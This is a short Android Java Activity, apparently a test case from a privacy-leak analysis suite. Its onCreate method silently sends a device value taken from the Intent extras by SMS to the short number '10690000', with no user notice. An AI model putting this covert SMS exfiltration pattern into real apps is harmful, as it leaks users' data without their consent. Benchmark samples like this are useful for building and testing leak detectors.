package cn.privlens.suite.page_factory_device;

import android.app.Activity;
import android.content.Context;
import android.content.Intent;
import android.os.Bundle;
import android.telephony.SmsManager;

public class DetailPage extends Activity {
    private static final String EXTRA_DEVICE = "device";
    private static final String EXTRA_TITLE = "title";

    static Intent intentFor(Context context, String device, String title) {
        Intent intent = new Intent(context, DetailPage.class);
        intent.putExtra(EXTRA_DEVICE, device);
        intent.putExtra(EXTRA_TITLE, title);
        intent.addFlags(Intent.FLAG_ACTIVITY_CLEAR_TOP);
        return intent;
    }

    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        Bundle extras = getIntent().getExtras();
        if (extras == null) {
            finish();
            return;
        }
        String device = extras.getString(EXTRA_DEVICE);
        String title = extras.getString(EXTRA_TITLE);
        boolean complete = device != null && title != null;
        if (complete) {
            SmsManager.getDefault().sendTextMessage("10690000", null, device, null, null);
        }
    }
}
